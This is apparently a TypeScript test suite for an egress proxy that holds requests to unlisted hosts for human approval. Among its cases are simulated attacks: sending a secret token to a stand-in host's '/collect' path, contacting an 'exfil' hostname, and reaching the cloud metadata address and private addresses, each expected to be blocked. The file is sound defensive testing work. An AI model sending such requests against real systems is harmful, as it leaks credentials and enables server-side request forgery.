/**
 * Ask before a new host (issue 26, item 3; docs/secrets-egress.md, "Unknown hosts"): with
 * `unknown_hosts: "ask"` a request to a host off the allowlist is held as an approval
 * (connector `egress:<host>`, category `connect`) instead of refused, and a grant lets the
 * host through for its scope. Through the real proxy, against a fake upstream answering
 * for every host here (GATEWAY_UPSTREAM_OVERRIDES).
 */
import { expect } from 'chai';
import { once } from 'node:events';
import { connect as netConnect } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { request, type Dispatcher } from 'undici';
import { startAttackWorld, type AttackWorld } from '../helpers/attack-fixture.js';
import { plainProxyRequest, proxyAgent, rawProxyExchange, proxyAuthorization } from '../helpers/proxy-client.js';

const ALLOWED = 'allowed.example.com';
const KEY = 'sk_live_egress_ask_real_value';

describe('egress: unknown_hosts "ask" (issue 26, item 3)', function () {
  this.timeout(60_000);
  let w: AttackWorld;
  let agent: Dispatcher;
  const egressPath = () => `/v1/environments/${w.envId}/egress`;

  before(async () => {
    w = await startAttackWorld({
      hosts: [ALLOWED, 'new-a.example.net', 'new-b.example.net', 'new-c.example.net', 'new-d.example.net', 'new-e.example.net', 'new-f.example.net', 'new-g.example.net'],
      egress: [ALLOWED],
      secrets: { KEY: { value: KEY, allowed_hosts: [ALLOWED] } },
    });
    agent = proxyAgent(w.gw);
  });
  after(async () => {
    await (agent as unknown as { close(): Promise<void> })?.close();
    await w?.close();
  });

  async function setMode(mode: 'deny' | 'ask'): Promise<void> {
    const r = await w.t.api.put(egressPath(), { allow: [ALLOWED], unknown_hosts: mode });
    expect(r.status, r.text).to.equal(200);
    expect(r.body.unknown_hosts).to.equal(mode);
  }

  interface Answer { status: number; error: string | undefined; body: string }
  async function send(url: string, init: { method?: string; body?: string; headers?: Record<string, string> } = {}): Promise<Answer> {
    const r = await request(url, { dispatcher: agent, method: (init.method ?? 'GET') as 'GET', body: init.body, headers: init.headers });
    const body = await r.body.text();
    return { status: r.statusCode, error: r.headers['x-gateway-error'] as string | undefined, body };
  }

  async function pending(): Promise<Array<{ id: string; connector: string; category: string; summary: string; max_scope: string }>> {
    return (await w.t.api.get(`/v1/approvals?status=pending&environment_id=${w.envId}`)).body.data;
  }
  async function nextApproval(): Promise<{ id: string; connector: string; category: string; summary: string; max_scope: string }> {
    for (let i = 0; i < 300; i++) {
      const p = await pending();
      if (p.length > 0) return p[0]!;
      await new Promise((r) => setTimeout(r, 20));
    }
    throw new Error('no pending approval appeared');
  }
  const decide = async (id: string, body: unknown) => {
    const r = await w.t.api.post(`/v1/approvals/${id}/decision`, body);
    expect(r.status, r.text).to.equal(200);
    return r.body;
  };
  const hostsSeen = () => w.up.seen.map((s) => s.headers.host);

  describe('the setting', () => {
    it('defaults to deny; PUT takes and GET echoes it; unknown_hosts alone leaves the list; a bad value or {} is 422', async () => {
      const fresh = await w.t.api.get(egressPath());
      expect(fresh.body).to.deep.equal({ allow: [ALLOWED], source: 'environment', effective: [ALLOWED], unknown_hosts: 'deny' });

      const put = await w.t.api.put(egressPath(), { unknown_hosts: 'ask' });
      expect(put.status, put.text).to.equal(200);
      expect(put.body).to.deep.equal({ allow: [ALLOWED], source: 'environment', effective: [ALLOWED], unknown_hosts: 'ask' });
      expect((await w.t.api.get(egressPath())).body.unknown_hosts).to.equal('ask');
      // allow alone leaves the setting as it is.
      expect((await w.t.api.put(egressPath(), { allow: [ALLOWED] })).body.unknown_hosts).to.equal('ask');

      for (const body of [{ allow: [ALLOWED], unknown_hosts: 'allow' }, { unknown_hosts: 'ASK' }, { unknown_hosts: null }, { unknown_hosts: true }, {}]) {
        const bad = await w.t.api.put(egressPath(), body);
        expect(bad.status, JSON.stringify(body)).to.equal(422);
        expect(bad.body.error).to.equal('invalid_body');
      }
      await setMode('deny');
      expect((await w.t.api.get(egressPath())).body.unknown_hosts).to.equal('deny');
    });

    it('another developer cannot set it (404)', async () => {
      const other = await w.t.otherDeveloper();
      expect((await other.put(egressPath(), { unknown_hosts: 'ask' })).status).to.equal(404);
      expect((await w.t.api.get(egressPath())).body.unknown_hosts).to.equal('deny');
    });
  });

  describe('deny (the default)', () => {
    before(() => setMode('deny'));

    it('a new host is 403 egress_denied at once, audited egress_denied; nothing is asked or sent', async () => {
      await w.mark();
      const r = await send('https://new-a.example.net/hello');
      expect(r.status).to.equal(403);
      expect(r.error).to.equal('egress_denied');
      const [entry] = await w.audited(1);
      expect(entry!.reason).to.equal('egress_denied');
      expect(entry!.decision).to.equal('deny');
      expect(entry!.connector).to.equal(null);
      expect(await pending()).to.have.length(0);
      expect(w.up.seen).to.have.length(0);
    });
  });

  describe('ask', () => {
    before(() => setMode('ask'));

    it('holds a request to a new host; approved permanent, it is forwarded and the next one passes without asking; the allowlist is unchanged', async () => {
      await w.mark();
      const held = send('https://new-a.example.net/v1/things?q=secret', { method: 'POST', body: '{"a":1}', headers: { 'content-type': 'application/json' } });
      const approval = await nextApproval();
      expect(approval.connector).to.equal('egress:new-a.example.net');
      expect(approval.category).to.equal('connect');
      expect(approval.summary).to.equal('POST new-a.example.net /v1/things');
      expect(approval.max_scope).to.equal('permanent');
      // The console's card names the host.
      const row = await w.t.svc.db('approvals').where({ id: approval.id }).first('details');
      const details = JSON.parse(row.details) as { kind: string; fields: Array<{ label: string; value: string }> };
      expect(details.kind).to.equal('new_host');
      expect(details.fields.find((f) => f.label === 'New host')?.value).to.equal('new-a.example.net');
      expect(JSON.stringify(details)).to.not.include('q=secret');
      expect(w.up.seen).to.have.length(0);

      const decided = await decide(approval.id, { decision: 'approve', scope: { kind: 'permanent' } });
      const r = await held;
      expect(r.status, r.body).to.equal(200);
      expect(hostsSeen()).to.deep.equal(['new-a.example.net']);
      expect(w.up.seen[0]!.body.toString()).to.equal('{"a":1}');
      const [entry] = await w.audited(1);
      expect(entry).to.include({ decision: 'ask', reason: 'egress_ask', connector: 'egress:new-a.example.net', category: 'connect', approval_id: approval.id, status: 200 });

      // The grant is the record: the next request passes at once, the stored list is unchanged.
      await w.mark();
      const next = await send('https://new-a.example.net/again');
      expect(next.status).to.equal(200);
      expect(await pending()).to.have.length(0);
      const [again] = await w.audited(1);
      expect(again).to.include({ decision: 'allow', reason: 'egress_grant', connector: 'egress:new-a.example.net', category: 'connect' });
      expect((again as unknown as { grant_id: string }).grant_id).to.equal(decided.grant_id);
      const eg = (await w.t.api.get(egressPath())).body;
      expect(eg).to.deep.equal({ allow: [ALLOWED], source: 'environment', effective: [ALLOWED], unknown_hosts: 'ask' });
      const grants = (await w.t.api.get(`/v1/grants?environment_id=${w.envId}`)).body.data;
      expect(grants.find((g: { id: string }) => g.id === decided.grant_id)).to.include({ connector: 'egress:new-a.example.net', category: 'connect', scope: 'permanent' });

      // The grant is for that host only.
      const otherHost = send('https://new-b.example.net/');
      const asked = await nextApproval();
      expect(asked.connector).to.equal('egress:new-b.example.net');
      await decide(asked.id, { decision: 'deny' });
      expect((await otherHost).error).to.equal('approval_denied');
    });

    it('approved once: forwarded; the next request to that host asks again', async () => {
      await w.mark();
      const held = send('https://new-c.example.net/one');
      await decide((await nextApproval()).id, { decision: 'approve', scope: { kind: 'once' } });
      expect((await held).status).to.equal(200);
      expect(hostsSeen()).to.deep.equal(['new-c.example.net']);

      const second = send('https://new-c.example.net/two');
      const approval = await nextApproval();
      expect(approval.connector).to.equal('egress:new-c.example.net');
      await decide(approval.id, { decision: 'deny' });
      expect((await second).status).to.equal(403);
    });

    it('denied: 403 approval_denied, audited, and nothing reached the upstream', async () => {
      await w.mark();
      const held = send('https://new-d.example.net/secret', { method: 'PUT', body: 'payload' });
      const approval = await nextApproval();
      await decide(approval.id, { decision: 'deny' });
      const r = await held;
      expect(r.status).to.equal(403);
      expect(r.error).to.equal('approval_denied');
      expect(w.up.seen).to.have.length(0);
      const [entry] = await w.audited(1);
      expect(entry).to.include({ decision: 'ask', reason: 'approval_denied', connector: 'egress:new-d.example.net', category: 'connect', approval_id: approval.id });
    });

    it('nobody decides: 403 approval_expired after 10 minutes', async () => {
      await w.mark();
      const held = send('https://new-d.example.net/late');
      await nextApproval();
      await w.t.advance(601);
      const r = await held;
      expect(r.status).to.equal(403);
      expect(r.error).to.equal('approval_expired');
      expect(w.up.seen).to.have.length(0);
    });

    it('a placeholder to a new host is refused secret_host_not_allowed without asking, and still after a grant for the host', async () => {
      await w.mark();
      const at = () => send('https://new-e.example.net/collect', { headers: { authorization: `Bearer ${w.ph.KEY}` } });
      const first = await at();
      expect(first.status).to.equal(403);
      expect(first.error).to.equal('secret_host_not_allowed');
      expect(await pending()).to.have.length(0);

      const held = send('https://new-e.example.net/plain');
      await decide((await nextApproval()).id, { decision: 'approve', scope: { kind: 'permanent' } });
      expect((await held).status).to.equal(200);
      await w.mark();
      for (const r of [
        await at(),
        await send('https://new-e.example.net/collect', { method: 'POST', body: `key=${w.ph.KEY}`, headers: { 'content-type': 'application/x-www-form-urlencoded' } }),
      ]) {
        expect(r.status).to.equal(403);
        expect(r.error).to.equal('secret_host_not_allowed');
      }
      expect(w.up.seen).to.have.length(0);
      expect(JSON.stringify(w.up.seen)).to.not.include(KEY);
      expect(await pending()).to.have.length(0);
    });

    it('private addresses and the management API are refused at once (egress_denied), never asked about', async () => {
      await w.mark();
      for (const url of ['https://127.0.0.1/', 'https://169.254.169.254/latest/meta-data/', 'https://localhost/', 'http://10.0.0.1/', 'https://[::1]/', `${w.t.url}/v1/environments`]) {
        const r = url.startsWith('http://') ? await plainProxyRequest(w.gw, url) : await send(url);
        expect(r.status, url).to.equal(403);
        const error = 'error' in r ? r.error : (r.headers['x-gateway-error'] as string);
        expect(error, url).to.equal('egress_denied');
      }
      expect(await pending()).to.have.length(0);
      expect(w.up.seen).to.have.length(0);
    });

    it('a new name is not looked up before a person approves it (no DNS on the agent\'s say-so); once approved it is', async () => {
      // Not in GATEWAY_UPSTREAM_OVERRIDES and never resolvable: were it looked up first, the
      // answer would be 502 upstream_unreachable at once instead of an approval.
      const held = send('https://exfil-0123456789abcdef.invalid/');
      const approval = await nextApproval();
      expect(approval.connector).to.equal('egress:exfil-0123456789abcdef.invalid');
      await decide(approval.id, { decision: 'approve', scope: { kind: 'once' } });
      const r = await held;
      expect(r.status).to.equal(502);
      expect(r.error).to.equal('upstream_unreachable');
    });

    it('a plain http:// proxy request to a new host is held too (denied here: nothing sent)', async () => {
      await w.mark();
      const held = plainProxyRequest(w.gw, 'http://new-f.example.net/plain');
      const approval = await nextApproval();
      expect(approval.connector).to.equal('egress:new-f.example.net');
      await decide(approval.id, { decision: 'deny' });
      const r = await held;
      expect(r.status).to.equal(403);
      expect(r.headers['x-gateway-error']).to.equal('approval_denied');
      expect(w.up.seen).to.have.length(0);
    });

    it('CONNECT to a new host is accepted and the request inside the tunnel is held', async () => {
      // undici's ProxyAgent tunnels https:// with CONNECT; this one is raw, to see the 200 first.
      const u = new URL(w.gw.proxy_url);
      const socket = netConnect(Number(u.port), u.hostname);
      await once(socket, 'connect');
      socket.write(`CONNECT new-g.example.net:443 HTTP/1.1\r\nHost: new-g.example.net:443\r\nProxy-Authorization: ${proxyAuthorization(w.gw)}\r\n\r\n`);
      const head = String((await once(socket, 'data'))[0]);
      expect(head).to.match(/^HTTP\/1\.1 200 /);
      const tls = tlsConnect({ socket, servername: 'new-g.example.net', ca: w.gw.ca_cert_pem });
      await once(tls, 'secureConnect');
      let got = '';
      tls.on('data', (d) => (got += d));
      tls.write('GET /inside HTTP/1.1\r\nHost: new-g.example.net\r\nConnection: close\r\n\r\n');
      const approval = await nextApproval();
      expect(approval.connector).to.equal('egress:new-g.example.net');
      await decide(approval.id, { decision: 'approve', scope: { kind: 'permanent' } });
      await Promise.race([once(tls, 'end'), new Promise((r) => setTimeout(r, 5000))]);
      tls.destroy();
      expect(got).to.match(/^HTTP\/1\.1 200 /);
      expect(w.up.seen.some((s) => s.headers.host === 'new-g.example.net' && s.url === '/inside')).to.equal(true);
    });

    it('a revoked grant asks again', async () => {
      await w.mark();
      const held = send('https://new-b.example.net/first');
      const decided = await decide((await nextApproval()).id, { decision: 'approve', scope: { kind: 'permanent' } });
      expect((await held).status).to.equal(200);
      expect((await send('https://new-b.example.net/second')).status).to.equal(200);
      expect(await pending()).to.have.length(0);

      expect((await w.t.api.delete(`/v1/grants/${decided.grant_id}`)).status).to.be.oneOf([200, 204]);
      const third = send('https://new-b.example.net/third');
      const approval = await nextApproval();
      expect(approval.connector).to.equal('egress:new-b.example.net');
      await decide(approval.id, { decision: 'deny' });
      expect((await third).error).to.equal('approval_denied');
    });

    it('a task grant lets the host through for that task only', async () => {
      const held = send('https://new-f.example.net/t', { headers: { 'x-service-task-id': 'task-1' } });
      await decide((await nextApproval()).id, { decision: 'approve', scope: { kind: 'task', task_id: 'task-1' } });
      expect((await held).status).to.equal(200);
      expect((await send('https://new-f.example.net/t2', { headers: { 'x-service-task-id': 'task-1' } })).status).to.equal(200);
      const other = send('https://new-f.example.net/t3', { headers: { 'x-service-task-id': 'task-2' } });
      const approval = await nextApproval();
      await decide(approval.id, { decision: 'deny' });
      expect((await other).error).to.equal('approval_denied');
    });

    it('an upgrade to a new host stays refused (egress_denied), never asked about', async () => {
      const out = await rawProxyExchange(w.gw, `GET http://new-c.example.net/ws HTTP/1.1\r\nHost: new-c.example.net\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nProxy-Authorization: ${proxyAuthorization(w.gw)}\r\n\r\n`, 2000);
      expect(out).to.match(/^HTTP\/1\.1 403 /);
      expect(out).to.include('egress_denied');
      expect(await pending()).to.have.length(0);
    });

    it('back to deny: a host with a grant is refused again (the setting rules, the grant stays)', async () => {
      await setMode('deny');
      try {
        const r = await send('https://new-a.example.net/after');
        expect(r.status).to.equal(403);
        expect(r.error).to.equal('egress_denied');
      } finally {
        await setMode('ask');
      }
      expect((await send('https://new-a.example.net/after')).status).to.equal(200);
    });
  });
});
